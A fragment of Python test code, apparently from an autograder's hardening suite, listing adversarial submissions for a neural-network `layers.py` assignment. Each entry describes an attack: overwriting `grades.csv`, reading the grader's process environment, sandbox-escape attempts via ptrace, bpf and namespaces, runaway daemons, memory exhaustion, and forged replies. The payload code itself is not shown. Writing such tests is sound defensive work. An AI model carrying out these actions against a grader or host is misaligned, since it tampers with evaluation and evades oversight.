    Attack("writes-files", "overwrites other reports, grades.csv, host sentinels; tampers with its files",
           (append("layers.py", WRITE),), report="write"),
    Attack("reads-grader-proc", "reads /proc/<grader pid>/{cmdline,environ,root/...}",
           (append("layers.py", PROC),), baseline="wrong-db", report="proc"),
    Attack("network", "connects to the host's loopback (TCP, UDP, abstract unix), DNS",
           (append("layers.py", NETWORK),), report="network"),
    Attack("daemon", "double-forks a daemon that ignores signals and comes back later",
           (append("layers.py", DAEMON),), report="daemon"),
    Attack("stops-the-zygote", "SIGSTOPs the process that forked it, at import",
           (inject("layers.py", "import numpy as np", STOP_ZYGOTE),)),
    Attack("shared-memory", "1.5 GB of SysV shared memory, touched and detached, at import",
           (append("layers.py", SHM),), report="shm"),
    Attack("forked-memory", "4 children holding 700 MB each at once, at import",
           (append("layers.py", FORK_MEMORY),), report="fork-memory"),
    Attack("leaves-residue", "a mode-000 folder in /tmp and SysV IPC objects, left behind",
           (append("layers.py", LEAVE),), report="leave"),
    Attack("looks-for-residue", "lists /tmp and SysV IPC (an honest hand-in otherwise)",
           (append("layers.py", LOOK),), report="look"),
    Attack("escapes", "user namespaces, io_uring, userfaultfd, keyrings, perf, ptrace, bpf, at import",
           (append("layers.py", ESCAPES),), report="escapes"),
    Attack("memfd-memory", "6 processes filling memfds with write(): memory in no process's RSS",
           (append("layers.py", MEMFD),), report="memfd"),
    Attack("leaves-more-residue", "a POSIX message queue, keys, /dev/shm, an abstract socket, left behind",
           (append("layers.py", LEAVE_MORE),), report="leave-more"),
    Attack("looks-for-more-residue", "reads the queue, the keys, the socket (an honest hand-in otherwise)",
           (append("layers.py", LOOK_MORE),), report="look-more"),
    Attack("prints-then-hangs", "prints without flush at import and in Relu.backward, then loops forever",
           (inject("layers.py", "import numpy as np", PRINTED_AT_IMPORT), in_backward("Relu", PRINTS_THEN_HANGS)),
           affected=frozenset(PARTS_USING["Relu"]), status="timeout"),
    Attack("forges-a-deep-reply", "Affine.backward writes a reply of JSON nested 100,000 deep to the session",
           (append("layers.py", _FORGE_HELPER), in_backward("Affine", FORGE_DEEP)),
           affected=frozenset(PARTS_USING["Affine"]), status="error"),
    Attack("forges-an-overflowing-frame", "Affine.backward writes a reply whose array shape overflows int64",
           (append("layers.py", _FORGE_HELPER), in_backward("Affine", FORGE_SHAPE)),
           affected=frozenset(PARTS_USING["Affine"]), status="error"),
]}
